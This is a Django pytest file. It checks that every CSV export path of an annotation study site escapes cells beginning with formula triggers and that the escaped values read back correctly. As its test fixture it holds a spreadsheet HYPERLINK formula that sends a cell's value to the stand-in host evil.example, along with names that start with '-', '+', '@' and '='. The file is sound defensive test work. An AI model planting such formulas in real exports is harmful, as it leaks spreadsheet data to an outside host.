"""No CSV the site writes carries a live spreadsheet formula (lib.csvsafe).

A vote whose rationale is a HYPERLINK formula, in a study whose systems, instance and annotator have names
starting with '-', '+' and '@', is exported through every path the site has: the dashboard download, the
background export file, the API's `?format=csv` and `export_votes`. Each escaped cell reads back as the
original text behind one apostrophe; numbers the site writes (ids, sample indices, durations) are as before.
"""
from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.test import Client
from rest_framework.authtoken.models import Token

from annotations.models import AnnotatorProfile, Instance, System, Vote
from dashboard import exports
from dashboard.models import ExportJob
from lib.csvsafe import FORMULA_TRIGGERS, escape_cell, unescape_cell
from tests.factories import make_voted_study

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Click")'
NAMES = {"system_a": "-alpha", "system_b": "+beta", "instance_id": "@x0", "annotator": "@ann-evil"}


@pytest.fixture
def hostile_study(db):
    study = make_voted_study(slug="csv-injection", n_instances=1, k=1, annotators=1, leave_open=0)
    System.objects.filter(name="alpha-model").update(name=NAMES["system_a"])
    System.objects.filter(name="beta-model").update(name=NAMES["system_b"])
    Instance.objects.filter(dataset=study.dataset).update(external_id=NAMES["instance_id"])
    vote = Vote.objects.get(study=study)
    AnnotatorProfile.objects.filter(user_id=vote.annotator_id).update(pseudonym=NAMES["annotator"])
    Vote.objects.filter(pk=vote.pk).update(rationale=FORMULA, duration_seconds=0.25)
    return study


def assert_escaped(text: str):
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1, text
    row = rows[0]
    assert row["rationale"] == "'" + FORMULA
    for column, name in NAMES.items():
        assert row[column] == "'" + name, (column, row[column])
    assert row["winner_system"] in ("", "'-alpha", "'+beta")
    # what the site computes stays a number
    assert row["duration_seconds"] == "0.25" and row["sample_a"] == "0" and row["vote_id"].isdigit()
    for value in row.values():
        assert not value.startswith(FORMULA_TRIGGERS), row
    assert unescape_cell(row["rationale"]) == FORMULA


def test_dashboard_download(staff_client, hostile_study):
    response = staff_client.get(f"/dashboard/studies/{hostile_study.slug}/export/csv/")
    assert response.status_code == 200
    assert_escaped(b"".join(response.streaming_content).decode())


def test_background_export_file(staff_client, hostile_study, media_root):
    from dashboard.tasks import run_export

    job = ExportJob.objects.create(study=hostile_study, format="csv", total=1)
    run_export.apply_async((job.pk,))
    assert_escaped((media_root / ExportJob.objects.get(pk=job.pk).file).read_text(encoding="utf-8"))


def test_api_csv(staff_user, hostile_study):
    token = Token.objects.create(user=staff_user)
    response = Client(HTTP_AUTHORIZATION=f"Token {token.key}").get(
        f"/api/v1/studies/{hostile_study.slug}/votes/?format=csv")
    assert response.status_code == 200
    assert_escaped(b"".join(response.streaming_content).decode())


def test_export_votes_command_to_stdout_and_to_a_file(hostile_study, tmp_path):
    out = io.StringIO()
    call_command("export_votes", "--study", hostile_study.slug, "--format", "csv", stdout=out)
    assert_escaped(out.getvalue())
    target = tmp_path / "votes.csv"
    call_command("export_votes", "--study", hostile_study.slug, "--format", "csv", "--output", str(target),
                 stderr=io.StringIO())
    assert_escaped(target.read_text(encoding="utf-8"))


def test_numbers_are_written_as_numbers_and_text_that_looks_like_one_is_escaped():
    text = "".join(exports.iter_csv([{"a": -0.25, "b": -3, "c": "-0.25", "d": "plain", "e": None, "f": True}],
                                    fields="abcdef"))
    assert text.splitlines()[1] == "-0.25,-3,'-0.25,plain,,true"


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_every_trigger_is_escaped_and_comes_back(trigger):
    cell = trigger + "1+1"
    assert escape_cell(cell) == "'" + cell
    assert unescape_cell(escape_cell(cell)) == cell
    assert escape_cell("a" + cell) == "a" + cell  # only the first character matters
    assert unescape_cell("'plain") == "'plain"  # an apostrophe this module did not add stays


def test_an_escaped_export_reads_back_to_the_stored_names(tmp_path):
    """Both readers of the votes CSV undo the export's escaping, so an export round-trips."""
    from annotations.imports.parse import parse_votes_csv, read_votes_csv
    from lib.csvsafe import SafeWriter

    path = tmp_path / "votes.csv"
    with open(path, "w", newline="", encoding="utf-8") as f:
        writer = SafeWriter(f)
        writer.writerow(["instance_id", "system_a", "system_b", "sample_a", "sample_b", "winner", "annotator"])
        writer.writerow(["@x0", "-alpha", "+beta", 0, 0, "a", "=ann"])
    assert "'-alpha" in path.read_text()
    vote = parse_votes_csv(path)[0]
    assert (vote.instance_id, vote.system_a, vote.system_b, vote.annotator) == ("@x0", "-alpha", "+beta", "=ann")
    table = read_votes_csv(path)
    assert set(table.system_a) | set(table.system_b) == {"-alpha", "+beta"}
